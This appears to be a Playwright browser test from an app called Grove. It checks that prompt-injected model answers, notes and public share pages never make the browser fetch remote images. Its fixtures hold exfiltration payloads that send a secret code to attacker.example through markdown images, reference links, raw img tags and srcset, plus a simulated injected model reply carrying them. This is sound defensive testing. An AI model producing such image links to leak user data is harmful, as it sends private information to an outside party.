"""No page of Grove makes the browser call out by itself, in real Chromium with the CSP
enforced and every request recorded: a prompt-injected model answer carrying an
exfiltration image (the real `openai` client against the fake provider), a note holding
remote images in every markdown form, and the public share pages of that note and its
notebook. Zero requests leave the site; each image is a link naming its host."""

from __future__ import annotations

import uuid
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from grove.interfaces.links import leave_url
from tests import factories
from tests.ask.conftest import fake_provider
from tests.ask.test_ask import answer, index_all
from tests.browser import PASSWORD, sign_in, watch_console

pytestmark = pytest.mark.slow

LEAK = "https://attacker.example/c?d=boiler+code+4711"
NOTE = (f"# Boiler\n\nThe boiler code is 4711. ![diagram]({LEAK})\n\n"
        f"![by reference][r] and [![inside a link]({LEAK}&i=1)](https://wiki.example/)\n\n"
        f'<img src="{LEAK}&raw=1"> <img srcset="{LEAK}&set=1 2x">\n\n'
        f"[r]: {LEAK}&ref=1")


def _off_site(page: Page, site: str) -> list[str]:
    """Every request the page makes to anywhere but Grove itself."""
    ours = urlsplit(site).netloc
    seen: list[str] = []
    page.on("request", lambda r: seen.append(r.url)
            if urlsplit(r.url).netloc != ours and not r.url.startswith("data:") else None)
    return seen


def _open(page: Page, url: str) -> None:
    page.goto(url)
    page.wait_for_load_state("networkidle")


def _image_links(page: Page, scope: str) -> list[tuple[str | None, str | None, str]]:
    links = page.locator(f"{scope} a", has_text="Image")
    return [(links.nth(i).get_attribute("href"), links.nth(i).get_attribute("rel"),
             links.nth(i).inner_text()) for i in range(links.count())]


def test_answers_notes_and_share_pages_never_call_out(browser_site: str, page: Page,
                                                      browser):
    from ask.rules import GENERATE
    from ask.services import conversation_create, turn_submit
    from grove.kernel import jobs
    from grove.models import Account
    from sharing import services as sharing

    account = Account.objects.create_user(username="no-callout", password=PASSWORD)
    me = factories.Actor.for_session(account.id)
    book = factories.notebook(me, "House")
    note = factories.note(me, NOTE, notebook_id=book.id)
    index_all(me)
    conversation, _ = conversation_create(actor=me, conversation_id=uuid.uuid4())
    with fake_provider(timeout=5.0) as provider:
        # What a note planted by prompt injection steers the model to answer.
        provider.chat_replies = [answer("answered", (
            f"The code is 4711. ![status]({LEAK}) ![ref][x]\n\n[x]: {LEAK}&ref=2",
            [f"note:{note.id}@1"]))]
        turn_submit(actor=me, conversation_id=conversation.id, turn_id=uuid.uuid4(),
                          query="What is the boiler code?", expected_version=0,
                          format="markdown")
        assert jobs.run_batch(account_id=account.id, kind=GENERATE) == 1
    note_share, _ = sharing.share_create(actor=me, note_id=note.id)
    book_share, _ = sharing.share_create(actor=me, notebook_id=book.id)

    errors = watch_console(page)
    leaks = _off_site(page, browser_site)
    sign_in(page, browser_site, "no-callout")

    _open(page, f"{browser_site}/ask/{conversation.id}/")
    turn = page.locator("li.turn").first
    expect(turn).to_have_attribute("data-status", "completed")
    assert leaks == []
    expect(turn.locator(".block")).to_contain_text("The code is 4711.")
    assert turn.locator("img").count() == 0
    # A model's links (an image's among them) open Grove's confirmation page first.
    assert _image_links(page, "li.turn .block") == [
        (leave_url(LEAK), "noopener noreferrer nofollow", "Image: status — attacker.example"),
        (leave_url(f"{LEAK}&ref=2"), "noopener noreferrer nofollow",
         "Image: ref — attacker.example")]

    _open(page, f"{browser_site}/notes/{note.id}/")
    expect(page.locator(".note-page .markdown h1")).to_have_text("Boiler")
    assert leaks == []
    assert page.locator(".note-page .markdown img").count() == 0
    labels = [text for _, _, text in _image_links(page, ".note-page .markdown")]
    assert labels == ["Image: diagram — attacker.example",
                      "Image: by reference — attacker.example",
                      "Image: inside a link — attacker.example"]
    expect(page.locator(".note-page .markdown")).to_contain_text('<img src="')  # as text

    visitor = browser.new_context()  # a stranger with the links: no session
    stranger = visitor.new_page()
    stranger_errors = watch_console(stranger)
    stranger_leaks = _off_site(stranger, browser_site)
    _open(stranger, note_share.url)
    expect(stranger.locator(".markdown h1")).to_have_text("Boiler")
    assert stranger_leaks == []
    assert [t for _, _, t in _image_links(stranger, ".markdown")] == labels
    _open(stranger, book_share.url)
    expect(stranger.get_by_role("heading", name="House")).to_be_visible()
    stranger.get_by_role("link", name="Boiler").click()
    stranger.wait_for_load_state("networkidle")
    expect(stranger.locator(".markdown h1")).to_have_text("Boiler")
    assert stranger.locator("img").count() == 1  # Grove's own icon in the footer only
    visitor.close()

    assert leaks == [] and stranger_leaks == []
    assert errors == [] and stranger_errors == []
